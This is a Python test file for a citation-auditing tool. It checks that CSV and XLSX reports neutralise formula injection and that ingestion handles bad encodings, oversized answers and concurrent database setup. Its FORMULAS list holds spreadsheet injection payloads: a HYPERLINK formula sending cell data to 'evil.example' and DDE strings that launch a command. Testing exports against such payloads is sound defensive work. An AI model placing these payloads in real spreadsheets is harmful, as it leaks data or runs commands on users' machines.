"""Hostile sources and inputs (issue 15): every cap holds, nothing is silently dropped.

Each test drives the real part (the fixture site on 127.0.0.1, a real SQLite file, the real
CLI, the real report writers) and asserts on what a user would see: the outcome, its reason,
the wall time against the cap.
"""
from __future__ import annotations

import csv
import io

from sourcecheckup.report import write_report
from sourcecheckup.store import Store
from tests.support.synth_run import synthesize_run

# -------------------------------------------------------------- 7. CSV formula injection

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _formula_run(tmp_path) -> tuple[Store, str]:
    store = Store(tmp_path / "f.db")
    run_id = synthesize_run(store, responses=1, statements=len(FORMULAS), sources=1)
    with store.db.conn:
        for i, text in enumerate(FORMULAS):
            store.db.execute("UPDATE statements SET text = ? WHERE run_id = ? AND ord = ?", [text, run_id, i])
        store.db.execute("UPDATE verdicts SET rationale = ? WHERE run_id = ?", [FORMULAS[0], run_id])
        store.db.execute("UPDATE responses SET question = ?, model = ? WHERE run_id = ?",
                         [FORMULAS[1], FORMULAS[3], run_id])
    return store, run_id


def test_csv_and_xlsx_reports_keep_every_formula_as_text(tmp_path):
    from openpyxl import load_workbook

    store, run_id = _formula_run(tmp_path)
    rows = list(csv.reader(io.StringIO(write_report(store, run_id, tmp_path / "r.csv").read_bytes().decode("utf-8"),
                                       newline="")))
    cells = [c for row in rows for c in row]
    for text in FORMULAS:
        assert "'" + text in cells, text          # shown as text by a spreadsheet, the words kept
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or
                (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
    wb = load_workbook(write_report(store, run_id, tmp_path / "r.xlsx"))
    texts = {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for text in FORMULAS:
        assert texts.get(text.replace("\r", "")) == "s" or texts.get(text) == "s", text


def test_review_sheet_csv_keeps_formulas_as_text(tmp_path):
    from sourcecheckup.review_sample import draw_sample, write_sample_csv

    store, run_id = _formula_run(tmp_path)
    pairs = draw_sample(store, run_id, 6, seed=1)
    out = tmp_path / "sheet.csv"
    write_sample_csv(pairs, out)
    cells = [c for row in csv.reader(out.open(encoding="utf-8", newline="")) for c in row]
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'@") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


# -------------------------------------------------------------- 5. one bad byte, one bad line

def test_a_jsonl_line_that_is_not_utf8_skips_that_line_only(tmp_path):
    from sourcecheckup.ingest import load_path

    good = '{"response": "Metformin lowers glucose [1].", "citations": ["https://example.org/a"]}'
    bad = '{"response": "Caf\xe9 au lait spots [1].", "citations": ["https://example.org/b"]}'.encode("latin-1")
    path = tmp_path / "batch.jsonl"
    path.write_bytes(b"\n".join([good.encode(), bad, good.encode(), b"", good.encode()]) + b"\n")
    result = load_path(path)
    assert [r.origin for r in result.responses] == ["batch.jsonl:1", "batch.jsonl:3", "batch.jsonl:5"]
    assert [(s.origin, s.problem[:30]) for s in result.skipped] == [("batch.jsonl:2", "not UTF-8 text (byte 0xe9 at c")]


def test_records_of_a_one_line_json_array_are_told_apart(tmp_path):
    from sourcecheckup.ingest import load_path

    path = tmp_path / "answers.json"
    path.write_text('[{"response": "Aspirin thins blood.", "citations": ["https://example.org/a"]}, '
                    '{"response": ""}, {"response": "Statins lower LDL.", "citations": []}]', encoding="utf-8")
    result = load_path(path)
    assert [r.origin for r in result.responses] == ["answers.json:1 (record 1)", "answers.json:1 (record 3)"]
    assert [s.origin for s in result.skipped] == ["answers.json:1 (record 2)"]


def test_an_input_whose_every_record_is_skipped_exits_1_with_the_reason(tmp_path):
    import subprocess
    import sys

    path = tmp_path / "broken.jsonl"
    path.write_text('{"response": ""}\n{not json\n', encoding="utf-8")
    p = subprocess.run([sys.executable, "-m", "sourcecheckup", "audit", str(path), "--db", str(tmp_path / "a.db"),
                        "--no-archive"], capture_output=True, text=True, timeout=120)
    assert p.returncode == 1, p.stderr
    assert "broken.jsonl:1" in p.stderr and "broken.jsonl:2" in p.stderr
    assert "nothing to audit" in p.stderr


# -------------------------------------------------------------- 3. two processes open a new database

def _open_store(path: str, barrier, results) -> None:
    from sourcecheckup.store import MIGRATIONS, Store

    barrier.wait()
    try:
        with Store(path) as store:
            results.put(("ok", store.schema_version == len(MIGRATIONS) and "runs" in store.db.table_names()))
    except Exception as exc:  # the failure itself is what this test reports
        results.put(("error", f"{type(exc).__name__}: {exc}"))


def test_two_processes_opening_a_new_database_both_see_the_migrated_schema(tmp_path):
    import multiprocessing

    ctx = multiprocessing.get_context("spawn")
    openers = 3
    for trial in range(6):
        path = str(tmp_path / f"new-{trial}.db")
        barrier, results = ctx.Barrier(openers), ctx.Queue()
        procs = [ctx.Process(target=_open_store, args=(path, barrier, results)) for _ in range(openers)]
        for p in procs:
            p.start()
        got = [results.get(timeout=60) for _ in procs]
        for p in procs:
            p.join(10)
        assert got == [("ok", True)] * openers, (trial, got)


# -------------------------------------------------------------- 2. the statement parser is linear

def _long_answer(chars: int) -> str:
    sentences = ["Hypertension is defined as a blood pressure of 130/80 mm Hg or higher [1].",
                 "The DASH diet can lower systolic blood pressure by about 11 mm Hg, e.g. in adults [2].",
                 "Metformin should not be started when the eGFR is below 30 (Dr. Smith et al. 2019).",
                 "As an AI, I cannot give medical advice."]
    block = " ".join(sentences) + " "
    return (block * (chars // len(block) + 1))[:chars]


def test_parsing_time_grows_linearly_with_the_answer():
    import time

    from sourcecheckup.models import Response
    from sourcecheckup.parse import BuiltinParser

    parser = BuiltinParser()
    took = {}
    for size in (25_000, 100_000):
        response = Response(id="r", text=_long_answer(size), citations=("https://a.example/", "https://b.example/"))
        started = time.process_time()
        statements = parser.parse_sync(response)
        took[size] = time.process_time() - started
        assert len(statements) > size // 100
    # quadratic: 4x the text took 8-9x the time (0.56 s -> 4.5 s); linear stays near 4x
    assert took[100_000] < 6 * took[25_000] + 0.2, took


def test_an_answer_over_the_size_cap_is_skipped_with_the_cap_named(tmp_path):
    from sourcecheckup.ingest import MAX_ANSWER_CHARS, load_path

    path = tmp_path / "big.jsonl"
    import json

    path.write_text(json.dumps({"response": _long_answer(5_000_000), "citations": ["https://a.example/"]}) + "\n"
                    + json.dumps({"response": "Aspirin thins the blood.", "citations": []}) + "\n", encoding="utf-8")
    result = load_path(path)
    assert [r.origin for r in result.responses] == ["big.jsonl:2"]
    (skip,) = result.skipped
    assert skip.origin == "big.jsonl:1" and f"{MAX_ANSWER_CHARS:,}-character limit" in skip.problem
